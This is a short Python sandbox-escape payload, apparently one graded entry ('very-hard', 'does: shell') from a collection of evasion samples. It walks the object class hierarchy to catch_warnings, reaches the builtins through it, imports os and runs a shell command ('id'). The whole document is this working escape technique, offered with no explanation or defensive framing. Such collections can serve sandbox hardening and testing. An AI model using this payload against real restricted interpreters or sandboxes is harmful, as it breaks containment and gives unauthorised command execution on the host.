# evasion: catch_warnings class leads to builtins
# grade: very-hard; does: shell
for c in [].__class__.__mro__[-1].__subclasses__():
    if c.__name__ == "catch_warnings":
        c()._module.__builtins__["__import__"]("os").system("id")
